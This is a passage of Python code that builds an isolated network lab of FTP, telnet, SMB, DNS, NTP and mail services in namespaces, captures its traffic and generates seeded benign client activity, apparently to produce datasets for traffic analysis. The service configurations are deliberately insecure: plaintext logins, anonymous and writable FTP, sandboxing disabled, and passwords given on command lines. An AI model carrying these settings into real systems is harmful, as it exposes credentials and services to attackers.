            (anon / "pub").mkdir(parents=True, exist_ok=True)
            for i in range(3):
                (anon / "pub" / f"firmware-{i}.img").write_bytes(rng.randbytes(rng.randrange(50_000, 900_000)))
            (anon / "README").write_text("public mirror\n")
            (w / "vsftpd.conf").write_text(f"""listen=NO
listen_ipv6=YES
background=NO
anonymous_enable=YES
anon_root={anon}
no_anon_password=YES
local_enable=YES
write_enable=YES
local_umask=022
dirmessage_enable=YES
xferlog_enable=YES
xferlog_file={w}/vsftpd-xfer.log
vsftpd_log_file={w}/vsftpd.log
connect_from_port_20=YES
port_enable=YES
pasv_enable=YES
pasv_min_port={p.pasv_min}
pasv_max_port={p.pasv_min + 80}
secure_chroot_dir=/var/run/vsftpd/empty
pam_service_name=vsftpd
isolate_network=NO
isolate=NO
seccomp_sandbox=NO
ftpd_banner={rng.choice(["Welcome to the file server.", "(vsFTPd 3.0.3)", "FTP service ready"])}
max_per_ip=60
max_clients=300
delay_failed_login=1
""")
            nspopen(srv.ns, ["vsftpd", str(w / "vsftpd.conf")], self.logs / "vsftpd.log", name="vsftpd")
        # -------- telnet (inetutils telnetd behind a minimal inetd)
        if self.has("telnetd"):
            nspopen(
                srv.ns,
                [PY, AGENTS, "inetd", "--port", "23", "/usr/sbin/telnetd"],
                self.logs / "inetd.log",
                name="telnetd",
            )
        # -------- bulk sink + a closed/filtered-port setup on srv (nft inside srv's own namespace)
        if self.has("socat"):
            nspopen(
                srv.ns,
                ["socat", "-u", "TCP6-LISTEN:9000,fork,reuseaddr", "OPEN:/dev/null"],
                self.logs / "sink.log",
                name="sink",
            )
        if self.has("nft"):
            ports = ", ".join(map(str, p.filtered_ports))
            (w / "srv.nft").write_text(
                f"table inet ntalab_filter {{\n chain input {{ type filter hook input priority 0;"
                f" policy accept; tcp dport {{ {ports} }} drop; }}\n}}\n"
            )
            nsx(srv.ns, ["nft", "-f", str(w / "srv.nft")], check=True)
        # -------- smb
        if self.has("smbd", "smbclient"):
            sd = w / "samba"
            for d in ("lock", "state", "cache", "private", "pid", "ncalrpc", "share"):
                (sd / d).mkdir(parents=True, exist_ok=True)
            for i in range(4):
                (sd / "share" / f"policy-{i}.docx").write_bytes(rng.randbytes(rng.randrange(10_000, 400_000)))
            (sd / "smb.conf").write_text(f"""[global]
workgroup = {p.domain.split(".")[0].upper()}
server role = standalone server
lock directory = {sd}/lock
state directory = {sd}/state
cache directory = {sd}/cache
private dir = {sd}/private
pid directory = {sd}/pid
ncalrpc dir = {sd}/ncalrpc
log file = {sd}/log.%m
passdb backend = tdbsam:{sd}/private/passdb.tdb
map to guest = Bad User
smb ports = 445
disable netbios = yes
load printers = no
printing = bsd
printcap name = /dev/null
disable spoolss = yes
[public]
path = {sd}/share
guest ok = yes
read only = yes
""")
            nspopen(
                srv.ns,
                ["smbd", "--foreground", "--no-process-group", "-s", str(sd / "smb.conf")],
                self.logs / "smbd.log",
                name="smbd",
            )
        # -------- dns + ntp
        dns = p.h("dns")
        if self.has("dnsmasq"):
            web = p.h("web")
            hosts = [
                f"{web.v4[0]} www.{p.domain} intranet.{p.domain} api.{p.domain} dl.{p.domain}",
                f"{web.v6[0]} www.{p.domain}",
                f"{srv.v4[0]} fs.{p.domain} files.{p.domain} ftp.{p.domain}",
                f"{srv.v4[1]} backup.{p.domain}",
                f"{srv.v6[0]} fs.{p.domain}",
                f"{dns.v4[0]} ns1.{p.domain} ntp.{p.domain}",
                f"{dns.v6[0]} ns1.{p.domain}",
                f"{p.h('mail').v4[0]} mail.{p.domain} imap.{p.domain} smtp.{p.domain}",
                f"{p.h('mail').v6[0]} mail.{p.domain}",
                f"{p.h('vic').v4[0]} ws-{rng.randrange(100, 999)}.{p.domain}",
                f"{p.rtr.v4[0]} gw.{p.domain}",
            ]
            for i, a in enumerate(web.v4[1:]):
                hosts.append(f"{a} e{i + 1}.cdn.{p.domain}")
                hosts.append(f"{a} static.cdn.{p.domain}" if i % 3 == 0 else f"{a} img.cdn.{p.domain}")
            for a in web.v6[1:]:
                hosts.append(f"{a} static.cdn.{p.domain}")
            for c in p.clients:
                hosts.append(f"{c.v4[0]} {c.name}.{p.domain}")
            (w / "dns-hosts").write_text("\n".join(hosts) + "\n")
            (w / "dnsmasq.conf").write_text(f"""no-resolv
no-hosts
addn-hosts={w}/dns-hosts
domain={p.domain}
local=/{p.domain}/
bind-interfaces
listen-address={dns.v4[0]}
listen-address={dns.v6[0]}
user=nobody
group=nogroup
pid-file={w}/dnsmasq.pid
mx-host={p.domain},mail.{p.domain},10
txt-record={p.domain},"v=spf1 mx -all"
srv-host=_ldap._tcp.{p.domain},fs.{p.domain},389
srv-host=_kerberos._udp.{p.domain},fs.{p.domain},88
cname=wiki.{p.domain},www.{p.domain}
cache-size=500
log-queries
log-facility={w}/dnsmasq.log
""")
            nspopen(
                dns.ns,
                ["dnsmasq", "--keep-in-foreground", f"--conf-file={w}/dnsmasq.conf"],
                self.logs / "dnsmasq.log",
                name="dnsmasq",
            )
        if self.has("chronyd"):
            (w / "chrony.conf").write_text(
                f"allow {LAB4}\nallow {LAB6}\nlocal stratum 8\npidfile {w}/chronyd.pid\n"
                f"driftfile {w}/chrony.drift\ncmdport 0\n"
            )
            nspopen(
                dns.ns, ["chronyd", "-d", "-x", "-f", str(w / "chrony.conf")], self.logs / "chronyd.log", name="chronyd"
            )
        # -------- mail: dovecot (imap/pop3) + smtp
        mail = p.h("mail")
        md = w / "mail" / USER
        for d in ("new", "cur", "tmp"):
            (md / d).mkdir(parents=True, exist_ok=True)
        for i in range(rng.randrange(3, 9)):
            (md / "new" / f"{1700000000 + i}.M{i}P1.lab").write_text(
                f"From: it@{p.domain}\nTo: {USER}@{p.domain}\nSubject: notice {i}\n\n"
                + "body text\n" * rng.randrange(5, 400)
            )
        subprocess.run(["chown", "-R", f"{USER}:{USER}", str(w / "mail")], check=True)
        if self.has("dovecot"):
            (w / "dovecot-run").mkdir(exist_ok=True)
            (w / "dovecot-state").mkdir(exist_ok=True)
            (w / "dovecot.passwd").write_text(f"{USER}:{{PLAIN}}{p.mail_pw}\n")
            (w / "dovecot.conf").write_text(f"""protocols = imap pop3
listen = *, ::
base_dir = {w}/dovecot-run/
state_dir = {w}/dovecot-state
ssl = no
disable_plaintext_auth = no
auth_mechanisms = plain login
auth_failure_delay = 1 secs
log_path = {w}/dovecot.log
mail_location = maildir:{w}/mail/%u
first_valid_uid = 100
default_login_user = dovenull
default_internal_user = dovecot
login_greeting = {rng.choice(["Dovecot ready.", "IMAP/POP3 server ready", "Dovecot (Debian) ready."])}
passdb {{
  driver = passwd-file
  args = scheme=PLAIN username_format=%u {w}/dovecot.passwd
}}
userdb {{
  driver = static
  args = uid={USER} gid={USER} home={w}/mail/%u
}}
protocol pop3 {{
  pop3_uidl_format = %08Xu%08Xv
}}
""")
            nspopen(
                mail.ns, ["dovecot", "-F", "-c", str(w / "dovecot.conf")], self.logs / "dovecot.log", name="dovecot"
            )
        nspopen(
            mail.ns,
            [
                PY,
                AGENTS,
                "smtpd",
                "--name",
                f"mail.{p.domain}",
                "--user",
                USER,
                "--password",
                p.mail_pw,
                "--maildir",
                str(md),
            ],
            self.logs / "smtpd.log",
            name="smtpd",
        )
        time.sleep(3)

    def health(self) -> None:
        """Which services answer (checked from the router namespace: no capture runs yet)."""
        p = self.p
        rtr = p.rtr.ns
        checks = {
            "http": (p.h("web").v4[0], 80),
            "https": (p.h("web").v4[0], 443),
            "ssh": (p.h("srv").v4[0], 22),
            "ssh_vic": (p.h("vic").v4[0], 22),
            "ftp": (p.h("srv").v4[0], 21),
            "telnet": (p.h("srv").v4[0], 23),
            "smb": (p.h("srv").v4[0], 445),
            "dns": (p.h("dns").v4[0], 53),
            "pop3": (p.h("mail").v4[0], 110),
            "imap": (p.h("mail").v4[0], 143),
            "smtp": (p.h("mail").v4[0], 25),
            "sink": (p.h("srv").v4[0], 9000),
        }
        for name, (addr, port) in checks.items():
            ok = False
            for _ in range(6):
                r = nsx(rtr, ["nc", "-z", "-w", "2", tgt(addr), str(port)], timeout=5)
                if r.returncode == 0:
                    ok = True
                    break
                time.sleep(1)
            self.services[name] = ok
        r = nsx(rtr, ["dig", "+short", "+time=2", "+tries=1", f"@{p.h('dns').v4[0]}", f"www.{p.domain}"], timeout=8)
        self.services["dns"] = self.services["dns"] and p.h("web").v4[0] in r.stdout
        r = nsx(rtr, [PY, AGENTS, "sntp", "--server", p.h("dns").v4[0]], timeout=8)
        self.services["ntp"] = r.returncode == 0
        log("services: " + " ".join(f"{k}={'up' if v else 'DOWN'}" for k, v in self.services.items()))

    # ---------------- capture
    def start_capture(self) -> None:
        pcap = self.out / "capture.pcap"
        self.tcpdump = nspopen(
            PREFIX + "sw",
            ["tcpdump", "-i", "br0", "-s", "0", "-n", "-U", "-Z", "root", "-w", str(pcap)],
            self.logs / "tcpdump.log",
            name="tcpdump",
        )
        for _ in range(50):
            if pcap.exists() and pcap.stat().st_size >= 24:
                break
            time.sleep(0.2)
        time.sleep(1.5)

    def stop_capture(self) -> None:
        if self.tcpdump:
            kill_proc(self.tcpdump, signal.SIGINT, 10)

    # ---------------- teardown
    def teardown(self) -> None:
        with PROCS_LOCK:
            procs = list(PROCS)
        for _, pr in reversed(procs):
            kill_proc(pr, signal.SIGTERM, 5)
        for ns in list_netns():
            if ns.startswith(PREFIX):
                r = subprocess.run(["ip", "netns", "pids", ns], capture_output=True, text=True)
                for pid in r.stdout.split():
                    with contextlib.suppress(ProcessLookupError, ValueError):
                        os.kill(int(pid), signal.SIGKILL)
        time.sleep(0.5)
        for ns in list_netns():
            if ns.startswith(PREFIX):
                subprocess.run(["ip", "netns", "del", ns], capture_output=True)
        for d in Path("/etc/netns").glob(PREFIX + "*") if Path("/etc/netns").exists() else []:
            shutil.rmtree(d, ignore_errors=True)
        subprocess.run(["userdel", USER], capture_output=True)
        SUDOERS.unlink(missing_ok=True)


# ------------------------------------------------------------------ benign traffic
class Benign:
    """One thread per client: a seeded mix of everyday actions until told to stop."""

    def __init__(self, lab: Lab, client: Host, seed: int):
        self.lab, self.c, self.rng = lab, client, random.Random(seed)
        p = lab.p
        self.p = p
        r = self.rng
        base = {
            "web_h2": 8,
            "web_h11": 5,
            "web_http": 4,
            "redirects": 3,
            "notfound": 2,
            "download": 1,
            "api_poll": 5,
            "api_post": 2,
            "form_login": 1,
            "basic_auth": 1,
            "cdn_burst": 3,
            "page_load": 6,
            "lan_chatter": 4,
            "dns": 7,
            "ssh_cmd": 3,
            "ssh_interactive": 2,
            "scp": 2,
            "ftp_passive": 2,
            "ftp_active": 1,
            "ftp_anon": 1,
            "ping": 3,
            "traceroute": 1,
            "bulk": 1,
            "refused": 1,
            "timeout": 1,
            "telnet": 1,
            "pop3": 2,
            "imap": 2,
            "smtp": 2,
            "ntp": 2,
            "smb": 2,
        }
        self.weights = {k: v * r.uniform(0.4, 1.8) for k, v in base.items()}
        self.persist: list[tuple[subprocess.Popen, float]] = []  # (process, end of its active part)
        if lab.long_lived:
            # Drawn after the old mix, so a run without --long-lived draws exactly what it drew before.
            self.weights["persist"] = 3 * r.uniform(0.4, 1.8)
            self.persist_max = r.randint(2, 6)
        self.call: subprocess.Popen | None = None
        if lab.modern_udp:
            # Drawn after everything above, so runs without --modern-udp draw what they drew before.
            self.weights["quic"] = 5 * r.uniform(0.4, 1.8)
            self.weights["call"] = 1.5 * r.uniform(0.4, 1.8)
        if getattr(lab, "start_bursts", False):
            # Drawn after everything above, so runs without --start-bursts draw what they drew before.
            self.weights["burst"] = 5 * r.uniform(0.4, 1.8)

    def count(self, k: str) -> None:
        with self.lab.benign_lock:
            self.lab.benign_stats[k] = self.lab.benign_stats.get(k, 0) + 1

    def act(self, act: str, tag: str = "") -> None:
        """Run one action and count it as ``tag + act`` (``error:`` in front when it raised; not at all when it
        declined by returning False); a benign action failing is not fatal."""
        try:
            if getattr(self, "a_" + act)() is not False:
                self.count(tag + act)
        except Exception as e:
            self.count("error:" + tag + act)
            log(f"benign {self.c.name} {tag.replace(':', ' ')}{act} error: {e}")

    def run(self) -> None:
        while not STOP.is_set():
            keys = list(self.weights)
            act = self.rng.choices(keys, [self.weights[k] for k in keys])[0]
            self.act(act)
            t = self.rng.expovariate(1 / 3.2)
            STOP.wait(min(t, 12))

    def x(self, argv: list[str], timeout: float = 30) -> subprocess.CompletedProcess:
        return nsx(self.c.ns, argv, timeout=timeout)

    def web(self) -> str:
        return self.rng.choice([f"www.{self.p.domain}", f"intranet.{self.p.domain}", self.p.h("web").v4[0]])

    def paths(self, n: int) -> list[str]:
        www = self.lab.w / "www"
        files = [
            str(f.relative_to(www))
            for f in www.rglob("*")
            if f.is_file() and "downloads" not in f.parts and "private" not in f.parts
        ]
        return ["/"] + ["/" + f for f in self.rng.sample(files, min(n, len(files)))]

    def a_web_h2(self) -> None:
        h = self.web()
        self.x(
            [
                "curl",
                "-sk",
                "--http2",
                "--max-time",
                "30",
                "-o",
                "/dev/null",
                *[f"https://{h}{u}" for u in self.paths(self.rng.randrange(3, 18))],
            ]
        )

    def a_web_h11(self) -> None:
        h = self.web()
        self.x(
            [
                "curl",
                "-sk",
                "--http1.1",
                "--max-time",
                "30",
                *[f"https://{h}{u}" for u in self.paths(self.rng.randrange(2, 10))],
            ]
        )

    def a_web_http(self) -> None:
        h = self.web()
        tool = self.rng.choice(["curl", "wget"])
        urls = [f"http://{h}{u}" for u in self.paths(self.rng.randrange(1, 8))]
        if tool == "curl":
            self.x(["curl", "-s", "--max-time", "30", *urls])
        else:
            self.x(["wget", "-q", "-O", "/dev/null", "--timeout=10", *urls])

    def a_redirects(self) -> None:
        h = self.web()
        self.x(
            [
                "curl",
                "-skL",
                "--max-time",
                "20",
                f"http://{h}/old",
                f"http://{h}/moved",
                f"http://{h}/secure/",
                f"https://{h}/moved",
            ]
        )

    def a_notfound(self) -> None:
        h = self.web()
        self.x(
            [
                "curl",
                "-sk",
                "--max-time",
                "10",
                *[
                    f"https://{h}/{self.rng.choice(['wp', 'old', 'img', 'static'])}/missing{self.rng.randrange(9999)}"
                    for _ in range(self.rng.randrange(1, 4))
                ],
            ]
        )

    def a_download(self) -> None:
        f = f"downloads/pkg{self.rng.randrange(3)}.bin"
        rate = f"{self.rng.choice([500, 1000, 2000, 4000])}k"
        if self.rng.random() < 0.5:
            self.x(
                [
                    "wget",
                    "-q",
                    "--no-check-certificate",
                    f"--limit-rate={rate}",
                    "-O",
                    "/dev/null",
                    f"https://dl.{self.p.domain}/{f}",
                ],
                timeout=40,
            )
        else:
            self.x(
                [
                    "curl",
                    "-sk",
                    "--limit-rate",
                    rate,
                    "-o",
                    "/dev/null",
                    "--max-time",
                    "40",
                    f"http://dl.{self.p.domain}/{f}",
                ],
                timeout=45,
            )

    def a_api_poll(self) -> None:
        for _i in range(self.rng.randrange(2, 7)):
            if STOP.is_set():
                break
            ep = self.rng.choice(["/api/status", f"/api/items?page={self.rng.randrange(1, 20)}", "/data/feed1.json"])
            self.x(
                [
                    "curl",
                    "-sk",
                    "--max-time",
                    "10",
                    "-H",
                    "Accept: application/json",
                    f"https://api.{self.p.domain}{ep}",
                ]
            )
            STOP.wait(self.rng.uniform(0.5, 3))

    def a_api_post(self) -> None:
        data = json.dumps(
            {"event": "heartbeat", "host": self.c.name, "metrics": [self.rng.random() for _ in range(50)]}
        )
        self.x(
            [
                "curl",
                "-sk",
                "--max-time",
                "15",
                "-H",
                "Content-Type: application/json",
                "-d",
                data,
                f"https://api.{self.p.domain}/api/events",
            ]
        )

    def a_form_login(self) -> None:
        jar = str(self.lab.w / f"jar-{self.c.name}")
        self.x(
            [
                "curl",
                "-skL",
                "--max-time",
                "15",
                "-c",
                jar,
                "-b",
                jar,
                "-d",
                f"username={self.p.form_user}&password={self.p.form_pw}",
                f"https://www.{self.p.domain}/app/login",
            ]
        )

    def a_basic_auth(self) -> None:
        self.x(
            [
                "curl",
                "-sk",
                "--max-time",
                "10",
                "-u",
                f"{self.p.web_user}:{self.p.web_pw}",
                f"{self.rng.choice(['http', 'https'])}://www.{self.p.domain}/private/",
            ]
        )

    def a_cdn_burst(self) -> None:
        web = self.p.h("web")
        addrs = self.rng.sample(web.v4[1:], min(len(web.v4) - 1, self.rng.randrange(8, 30)))
        urls = []
        for a in addrs:
            urls.append(f"https://{a}/{self.rng.choice(self.paths(6)[1:])}")
        cmd = (
            "printf '%s\\n' "
            + " ".join(shlex.quote(u) for u in urls)
            + " | xargs -P 6 -n 2 curl -sk --max-time 10 -o /dev/null -o /dev/null"
        )
        self.x(["sh", "-c", cmd], timeout=40)

    def a_page_load(self) -> None:
        """A browser's page load: the page and its objects, one connection per object, up to 2-8 at a time to
        the same server (as browsers open them for HTTP/1.x), sometimes more from a CDN address: many short
        connections to one server within a second or two, which keep-alive curl and wget never make."""
        h = self.web()
        scheme = self.rng.choice(["http", "https"])
        urls = [f"{scheme}://{h}{u}" for u in self.paths(self.rng.randrange(6, 31))]
        web = self.p.h("web")
        if len(web.v4) > 1 and self.rng.random() < 0.4:
            cdn = self.rng.choice(web.v4[1:])
            urls += [f"https://{cdn}{u}" for u in self.paths(self.rng.randrange(3, 12))[1:]]
        version = self.rng.choice(["--http1.1", "--http1.1", "--http1.0"])
        par = self.rng.choice([2, 4, 6, 6, 8])
        cmd = (
            "printf '%s\\n' "
            + " ".join(shlex.quote(u) for u in urls)
            + f" | xargs -P {par} -n 1 curl -sk {version} --max-time 10 -o /dev/null"
        )
        self.x(["sh", "-c", cmd], timeout=40)

    def a_lan_chatter(self) -> None:
        """What every office LAN carries besides the traffic people ask for: a NetBIOS name query to the
        segment's broadcast address, LLMNR and mDNS queries for names nobody has, SSDP searches (link-scope
        multicast, TTL 1: ``agents.py chatter``), over IPv4 or IPv6."""
        kind = self.rng.choice(["netbios", "llmnr", "llmnr", "mdns", "mdns", "ssdp"])
        v6 = kind != "netbios" and self.c.v6 and self.rng.random() < 0.4
        src = self.c.v6[0] if v6 else self.c.v4[0]
        net = self.p.main4 if self.c.seg == "main" else self.p.rem4
        names = ",".join(
            self.rng.sample(["wpad", "fileserver", "printer", "nas", "isatap", "desktop-7k2q", "hp-m404"], 3)
        )
        argv = [PY, AGENTS, "chatter", kind, "--src", src, "--names", names, "--count", str(self.rng.randrange(1, 4))]
        argv += ["--seed", str(self.rng.randrange(1 << 30))]
        if kind == "netbios":
            argv += ["--bcast", str(net.broadcast_address)]
        self.x(argv, timeout=15)

    def a_dns(self) -> None:
        d, dns = self.p.domain, self.p.h("dns")
        names = [
            f"www.{d}",
            f"fs.{d}",
            f"mail.{d}",
            f"static.cdn.{d}",
            f"img.cdn.{d}",
            f"e{self.rng.randrange(1, 9)}.cdn.{d}",
            f"wiki.{d}",
            f"nosuch{self.rng.randrange(999)}.{d}",
            f"printer.{d}",
            f"ntp.{d}",
        ]
        args = ["dig", "+time=2", "+tries=1", f"@{self.rng.choice(dns.v4 + dns.v6)}"]
        for n in self.rng.sample(names, self.rng.randrange(1, 5)):
            args += [n, self.rng.choice(["A", "A", "AAAA", "MX", "TXT", "ANY"])]
        if self.rng.random() < 0.25:
            args.insert(1, "+tcp")
        if self.rng.random() < 0.2:
            args += ["-x", self.p.h("srv").v4[0]]
        if self.rng.random() < 0.2:
            args += ["_ldap._tcp." + d, "SRV"]
        self.x(args, timeout=15)
        if self.rng.random() < 0.3:  # the system resolver, as an application lookup would
            self.x(["getent", "ahosts", self.rng.choice(names)], timeout=10)

    def ssh_base(self, host: str) -> list[str]:
        return [
            "sshpass",
            "-p",
            self.p.password,
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR",
            "-o",
            "ConnectTimeout=8",
            f"{USER}@{host}",
        ]

    def a_ssh_cmd(self) -> None:
        cmds = self.rng.sample(
            [
                "uptime",
                "df -h",
                "ls -la",
                "cat notes.txt",
                "ps aux | head",
                "free -m",
                "who",
                "uname -a",
                "ls files",
                "du -sh files",
                "sleep 2",
            ],
            self.rng.randrange(1, 4),
        )
        self.x(
            [*self.ssh_base(self.rng.choice([f"fs.{self.p.domain}", self.p.h("srv").v4[0]])), "; ".join(cmds)],
            timeout=30,
        )

    def a_ssh_interactive(self) -> None:
        lines = [
            *self.rng.sample(
                [
                    "ls",
                    "cd files",
                    "ls -l",
                    "cd ..",
                    "cat notes.txt",
                    "top -b -n 1 | head -20",
                    "vi --version | head -2",
                    "history | tail",
                    "date",
                    "whoami",
                    "df -h",
                ],
                self.rng.randrange(3, 8),
            ),
            "exit",
        ]
        interactive(
            self.c.ns,
            [
                "sshpass",
                "-p",
                self.p.password,
                "ssh",
                "-tt",
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
                "-o",
                "LogLevel=ERROR",
                f"{USER}@{self.p.h('srv').v4[0]}",
            ],
            lines,
            self.rng,
            timeout=40,
            delay=(0.8, 4),
        )

    def a_scp(self) -> None:
        base = [
            "sshpass",
            "-p",
            self.p.password,
            "scp",
            "-q",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ]
        src = f"{USER}@fs.{self.p.domain}:files/report-{2020 + self.rng.randrange(4)}.pdf"
        if self.rng.random() < 0.6:
            self.x([*base, src, "/dev/null"], timeout=30)
        else:
            blob = self.lab.w / f"upload-{self.c.name}.bin"
            if not blob.exists():
                blob.write_bytes(os.urandom(self.rng.randrange(50_000, 800_000)))
            self.x([*base, str(blob), f"{USER}@fs.{self.p.domain}:upload/{self.c.name}.bin"], timeout=30)

    def lftp(self, passive: bool, anon: bool = False) -> None:
        host = self.rng.choice([f"ftp.{self.p.domain}", self.p.h("srv").v4[0]])
        if anon:
            script = (
                f"set ftp:passive-mode {'on' if passive else 'off'}; ls; cd pub; ls; "
                f"get firmware-{self.rng.randrange(3)}.img -o /dev/null; bye"
            )
            self.x(["lftp", "-e", script, f"ftp://{host}"], timeout=40)
            return
        script = (
            f"set ftp:passive-mode {'on' if passive else 'off'}; set net:max-retries 1; set net:timeout 10; ls; "
            f"cd files; ls; get report-{2020 + self.rng.randrange(4)}.pdf -o /dev/null; "
        )
        if self.rng.random() < 0.4:
            script += f"cd ../upload; put /etc/hostname -o note-{self.c.name}.txt; "
        self.x(["lftp", "-u", f"{USER},{self.p.password}", "-e", script + "bye", host], timeout=40)

    def a_ftp_passive(self) -> None:
        self.lftp(True)

    def a_ftp_active(self) -> None:
        if self.rng.random() < 0.5:
            self.lftp(False)
        else:
            self.x(
                [
                    "curl",
                    "-s",
                    "--max-time",
                    "20",
                    "--ftp-port",
                    "-",
                    "-o",
                    "/dev/null",
                    f"ftp://{USER}:{self.p.password}@{self.p.h('srv').v4[0]}/files/report-2021.pdf",
                ]
            )

    def a_ftp_anon(self) -> None:
        self.lftp(self.rng.random() < 0.7, anon=True)

    def a_ping(self) -> None:
        p = self.p
        t = self.rng.choice(
            [
                p.h("srv").v4[0],
                p.h("web").v4[0],
                p.rtr.v4[0],
                p.h("dns").v4[0],
                self.rng.choice(p.clients).v4[0],
                f"www.{p.domain}",
                p.h("srv").v6[0],
            ]
        )
        self.x(["ping", "-c", str(self.rng.randrange(1, 6)), "-i", f"{self.rng.uniform(0.3, 1.0):.1f}", "-W", "2", t])

    def a_traceroute(self) -> None:
        p = self.p
        other = [c for c in p.clients if c.seg != self.c.seg]
        t = other[0].v4[0] if other and self.rng.random() < 0.6 else p.h("web").v4[0]
        mode = self.rng.choice([[], ["-I"], ["-T", "-p", "443"]])
        self.x(["traceroute", "-n", "-q", "1", "-w", "1", "-m", "6", *mode, t], timeout=20)

    def a_persist(self) -> bool | None:
        """A long-lived connection in the background (``--long-lived``): keep-alive HTTP(S) polling, an IMAP
        client idling with NOOPs, or an SSH session kept up by its keep-alives, for 30-480 s with 2-60 s between
        messages; it ends with a FIN, a RST or not at all (left open until after the capture stops), so the
        run's edge cuts hold benign flows that started before the cut (OTH) or end after it (S1)."""
        # A slot is taken while a connection is active; one left hanging open no longer counts.
        self.persist = [(pr, until) for pr, until in self.persist if pr.poll() is None and time.monotonic() < until]
        if len(self.persist) >= self.persist_max:
            return False
        r = self.rng
        kinds = ["https", "https", "http", "ssh"] + (["imap"] if self.lab.services.get("imap") else [])
        kind = r.choice(kinds)
        seconds = r.uniform(30, 480)
        g0 = r.uniform(2, 20)
        g1 = g0 + r.uniform(1, 40)
        end = r.choices(["fin", "rst", "hang"], [5, 2, 3])[0]
        if kind == "ssh":
            wait = f"{seconds:.0f}" if end != "hang" else "100000"
            argv = self.ssh_base(self.p.h("srv").v4[0])
            argv[4:4] = ["-o", f"ServerAliveInterval={max(1, round(g0))}"]
            argv += ["sleep", wait]
        else:
            web, mail = self.p.h("web"), self.p.h("mail")
            host = r.choice(web.v4) if kind != "imap" else mail.v4[0]
            port = {"https": 443, "http": 80, "imap": 143}[kind]
            argv = [PY, AGENTS, "persist", "--proto", kind, "--host", host, "--port", str(port)]
            argv += ["--seconds", f"{seconds:.1f}", "--gap-min", f"{g0:.1f}", "--gap-max", f"{g1:.1f}", "--end", end]
            argv += ["--seed", str(r.randrange(1 << 30))]
            if kind == "imap":
                argv += ["--user", USER, "--password", self.p.mail_pw]
            else:
                argv += ["--paths", ",".join(self.paths(r.randrange(1, 6))), "--vhost", f"www.{self.p.domain}"]
        proc = nspopen(self.c.ns, argv, self.lab.logs / "persist.log", name=f"persist-{kind}")
        self.persist.append((proc, time.monotonic() + seconds))
        return None

    def a_quic(self) -> None:
        """A QUIC-shaped UDP/443 session (``--modern-udp``; ``agents.py quic``): most of today's browser and app
        traffic to large sites is HTTP/3 over QUIC; one to a handful of objects, often to a CDN address."""
        r = self.rng
        host = r.choice(self.p.h("web").v4)
        argv = [
            PY,
            AGENTS,
            "quic",
            "--host",
            host,
            "--objects",
            str(r.randrange(1, 9)),
            "--seed",
            str(r.randrange(1 << 30)),
        ]
        argv += ["--size-mu", f"{r.uniform(7.5, 11.5):.2f}", "--think", f"{r.uniform(0.1, 3):.2f}"]
        argv += ["--idle", f"{r.uniform(0, 25):.1f}"]
        self.x(argv, timeout=90)

    def a_call(self) -> bool | None:
        """A voice or video call in the background (``--modern-udp``; ``agents.py call``): STUN to 3478, then RTP
        both ways every 20-33 ms with RTCP, 10-240 s; one at a time per client."""
        if self.call is not None and self.call.poll() is None:
            return False
        r = self.rng
        web = self.p.h("web")
        argv = [PY, AGENTS, "call", "--host", web.v4[0], "--seconds", f"{r.uniform(10, 240):.0f}"]
        argv += ["--video", f"{r.uniform(0.1, 0.6):.2f}", "--seed", str(r.randrange(1 << 30))]
        self.call = nspopen(self.c.ns, argv, self.lab.logs / "call.log", name="call")
        return None

    # Short actions a host fires together when a person sits down or a machine wakes: mail, sync, name lookups,
    # time, file shares, a few pages, an admin's scripted SSH. Long or stateful actions (persist, call) stay out.
    BURST_ACTIONS = (
        "dns",
        "ntp",
        "web_h2",
        "web_http",
        "api_poll",
        "imap",
        "pop3",
        "smtp",
        "smb",
        "ssh_cmd",
        "ftp_passive",
        "cdn_burst",
        "page_load",
    )

    def a_burst(self) -> None:
        """Many services on several hosts at once (``--start-bursts``): 4-10 of ``BURST_ACTIONS`` started within
        0-3 s from this client, as at a login, a laptop waking or a scheduled sync. Each runs on its own thread
        with its own seeded generator (drawn here, in order), so a seed draws the same burst whatever the timing."""
        r = self.rng
        acts = [r.choice(self.BURST_ACTIONS) for _ in range(r.randrange(4, 11))]
        if self.lab.modern_udp and r.random() < 0.5:
            acts.append("quic")
        subs = []
        for act in acts:
            sub = copy.copy(self)
            sub.rng = random.Random(r.randrange(1 << 30))
            subs.append((act, sub, r.uniform(0, 3)))

        def one(act: str, sub: Benign, delay: float) -> None:
            if not STOP.wait(delay):
                sub.act(act, "burst:")

        threads = [threading.Thread(target=one, args=t, daemon=True) for t in subs]
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=120)

    def a_bulk(self) -> None:
        n = self.rng.randrange(200, 3000)
        self.x(["sh", "-c", f"head -c {n}K /dev/zero | socat -u - TCP:{self.p.h('srv').v4[0]}:9000"], timeout=30)

    def a_refused(self) -> None:
        port = self.rng.choice([8081, 8000, 3000, 5000, 9090])
        self.x(["curl", "-s", "--connect-timeout", "3", f"http://{self.p.h('srv').v4[0]}:{port}/"], timeout=8)

    def a_timeout(self) -> None:
        port = self.rng.choice(self.p.filtered_ports)
        self.x(["nc", "-z", "-w", "3", self.p.h("srv").v4[0], str(port)], timeout=8)

    def a_telnet(self) -> bool | None:
        if not self.lab.services.get("telnet"):
            return False
        cmds = ";;".join(
            self.rng.sample(["ls", "uptime", "df -h", "cat notes.txt", "date", "w"], self.rng.randrange(1, 4))
        )
        self.x(
            [
                PY,
                AGENTS,
                "telnet",
                "--host",
                self.p.h("srv").v4[0],
                "--user",
                USER,
                "--password",
                self.p.password,
                "--commands",
                cmds,
                "--typing",
            ],
            timeout=60,
        )
        return None

    def mail(self, proto: str) -> bool | None:
        if not self.lab.services.get(proto):
            return False
        self.x(
            [
                PY,
                AGENTS,
                "mail",
                "--proto",
                proto,
                "--host",
                self.p.h("mail").v4[0],
                "--user",
                USER,
                "--password",
                self.p.mail_pw if proto != "smtp" or self.rng.random() < 0.5 else "",
                "--max",
                str(self.rng.randrange(1, 4)),
            ],
            timeout=30,
        )
        return None

    def a_pop3(self) -> bool | None:
        return self.mail("pop3")

    def a_imap(self) -> bool | None:
        return self.mail("imap")

    def a_smtp(self) -> bool | None:
        return self.mail("smtp")

    def a_ntp(self) -> bool | None:
        if not self.lab.services.get("ntp"):
            return False
        self.x(
            [
                PY,
                AGENTS,
                "sntp",
                "--server",
                self.rng.choice(self.p.h("dns").v4 + self.p.h("dns").v6),
                "--count",
